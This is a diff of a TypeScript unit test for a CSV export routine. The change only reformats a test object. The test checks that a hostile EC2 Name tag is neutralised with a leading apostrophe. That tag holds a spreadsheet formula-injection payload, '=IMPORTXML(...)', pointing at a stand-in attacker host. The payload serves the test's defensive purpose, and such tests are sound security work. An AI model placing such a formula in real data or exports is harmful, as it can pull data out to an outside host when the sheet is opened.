@@ -34,7 +34,12 @@ describe('csvLine', () => {
 
   it('neutralises a hostile EC2 Name tag in a protected-items row', () => {
     const session = { id: 's-1', type: 'Policy', status: 'Failed', executionStartTime: '2026-10-01T00:00:00' } as unknown as SessionDto;
-    const item = { id: 'i-1', name: '=IMPORTXML("http://evil.example", "//a")', status: 'Failed', region: 'eu-west-1' } as unknown as ProtectedItemDto;
+    const item = {
+      id: 'i-1',
+      name: '=IMPORTXML("http://evil.example", "//a")',
+      status: 'Failed',
+      region: 'eu-west-1',
+    } as unknown as ProtectedItemDto;
     const record = itemRecord(session, item);
     const [row] = read(csvLine(ITEM_COLUMNS.map((column) => record[column])));
     expect(row?.[ITEM_COLUMNS.indexOf('itemName')]).toBe(`'=IMPORTXML("http://evil.example", "//a")`);
